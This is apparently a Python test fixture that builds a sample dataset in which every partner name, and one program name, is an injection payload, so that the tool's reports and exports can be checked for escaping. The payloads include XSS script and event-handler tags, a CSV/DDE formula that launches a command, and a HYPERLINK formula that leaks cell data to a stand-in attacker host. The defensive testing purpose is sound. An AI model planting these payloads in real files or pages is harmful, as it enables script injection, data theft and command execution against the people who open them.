"""A small generated sample whose partner and program names are attacks.

Every partner gets a name built from one of these payloads, so whichever partners a
report or an export lists, they are hostile: markup and script for the HTML report,
formulas for the spreadsheets, Markdown and math-text syntax for notebooks and charts.
"""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

import pandas as pd

PAYLOADS = (
    "<script>window.__pwned=1;alert('xss')</script>",
    '"><img src=x onerror="window.__pwned=1;alert(1)">',
    "<svg/onload=alert(document.domain)>",
    "</style></table><script>alert(2)</script>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1-555-0100 Partners",
    "-2+3 Consulting",
    "\tTabbed Partners",
    "# Heading *bold* [link](javascript:alert(1))",
    "$\\alpha$ Math Ltd",
    "{{7*7}} Template Inc.",
)
HOSTILE_PROGRAM = "<b>Boot</b><script>alert('program')</script>camp"


def make_hostile_sample(out: Path, *, partners: int = 60, quarters: int = 6,
                        seed: int = 11) -> Path:
    """Generate a sample with ``rot sample-data``, then make every name hostile."""
    subprocess.run(
        [sys.executable, "-m", "rotlib.cli", "sample-data", "--partners", str(partners),
         "--quarters", str(quarters), "--seed", str(seed), "--out", str(out)],
        check=True, capture_output=True, text=True,
    )
    path = out / "partners.csv"
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    frame["partner_name"] = [f"{PAYLOADS[i % len(PAYLOADS)]} {i}" for i in range(len(frame))]
    frame.to_csv(path, index=False)
    interventions = out / "interventions.csv"
    if interventions.exists():
        table = pd.read_csv(interventions, dtype=str, keep_default_na=False)
        first = sorted(table["program"].unique())[0]
        table.loc[table["program"] == first, "program"] = HOSTILE_PROGRAM
        table.to_csv(interventions, index=False)
    return out
